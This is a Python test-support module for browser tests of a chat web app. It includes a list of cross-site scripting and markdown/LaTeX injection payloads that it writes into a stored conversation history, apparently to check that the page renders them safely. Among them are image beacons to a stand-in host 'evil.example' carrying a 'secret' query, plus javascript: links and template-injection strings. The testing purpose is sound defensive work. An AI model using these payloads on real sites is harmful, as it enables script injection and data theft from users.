"""What tests in a real browser share: a page that remembers what it complained about, and a history full of attacks."""

from __future__ import annotations

import asyncio
from collections.abc import Coroutine
from concurrent.futures import ThreadPoolExecutor
from pathlib import Path
from typing import Any

from farthing.server.pages.history import History
from tests.chromium import Opened

SETTINGS: dict[str, Any] = {
    "model": "caller", "system": "", "effort": None, "budget": 12, "temperature": 1.0, "max_tokens": 60,
}  # fmt: skip
ATTACKS = (
    "<script>window.pwned=1</script>",
    "<img src=x onerror=window.pwned=1>",
    "<svg><animate onbegin=window.pwned=1 attributeName=x dur=1s>",
    "<iframe srcdoc='<script>parent.pwned=1</script>'></iframe>",
    "<math><mtext></table><mglyph><style><img src=x onerror=window.pwned=1>",
    "[a](javascript:window.pwned=1) [b](data:text/html,<script>1</script>) [c](vbscript:x)",
    "[d](JaVaScRiPt&colon;window.pwned=1) <javascript:window.pwned=1>",
    "![](https://evil.example/?q=secret) ![x](//evil.example/a.png)",
    "[e]: javascript:window.pwned=1\n\n[e]",
    '[f](https://ok.example "\\" onmouseover=window.pwned=1 x=\\"")',
    "$\\href{javascript:window.pwned=1}{x}$ $\\htmlData{x=1}{y}$ $\\includegraphics{https://evil.example/a.png}$",
    "$$\\url{javascript:window.pwned=1}$$ \\(\\htmlStyle{position:fixed}{z}\\) $\\text{<img src=x onerror=pwned=1>}$",
    "```html\n<script>window.pwned=1</script>\n```\n`<img src=x onerror=window.pwned=1>`",
    '```"onmouseover=window.pwned=1\nx\n```',
    "|<img src=x onerror=window.pwned=1>|b|\n|-|-|\n|<script>window.pwned=1</script>|c|",
    "<https://evil.example/><style>@import 'https://evil.example/a.css'</style><base href=//evil.example/>",
    "{{constructor.constructor('window.pwned=1')()}} ${window.pwned=1} \u202e\u2028",
)


class Chat(Opened):
    """The chat page and what is done with it."""

    def send(self, text: str) -> None:
        self.page.get_by_label("Message").fill(text)
        self.page.keyboard.press("Enter")

    def settled(self, replies: int = 1) -> None:
        """Until so many replies stand there and none is being written."""
        self.page.wait_for_function(
            "n => document.querySelectorAll('.replied').length === n && !document.querySelector('[aria-busy=true]')",
            arg=replies,
        )

    def rewrite(self, label: str, text: str) -> None:
        """Put a turn differently. Its editor takes the focus and puts the caret at the end once it is drawn."""
        self.page.wait_for_function("label => document.activeElement.ariaLabel === label", arg=label)
        self.page.get_by_label(label).fill(text)
        self.page.keyboard.press("Enter")


def apart(work: Coroutine[Any, Any, Any]) -> Any:
    """In a thread of its own: Playwright's loop runs in this one."""
    with ThreadPoolExecutor(1) as thread:
        return thread.submit(asyncio.run, work).result()


async def poison(path: Path) -> None:
    history = History(path)
    talk = await history.do(History.begin, SETTINGS)
    parent = None
    for attack in ATTACKS:
        said = await history.do(History.add, talk["id"], parent, "user", attack, finish="stop")
        reply = await history.do(History.add, talk["id"], said["id"], "assistant")
        await history.do(
            History.write, reply["id"], attack, attack, "stop", {"model": attack, "error": attack}
        )
        parent = reply["id"]
    await history.do(History.change, talk["id"], title=ATTACKS[1])
    history.close()


def begin(pages: Any, **settings: Any) -> str:
    answer = pages.post("/api/conversations", {"settings": SETTINGS | settings})
    assert answer.status_code == 201, answer.text
    return f"/#/c/{answer.json()['id']}"


def open_talk(visit: Any, pages: Any, **settings: Any) -> Chat:
    opened = visit("/")
    opened.page.goto(pages.url + begin(pages, **settings))
    opened.page.wait_for_selector(".thread")
    return opened
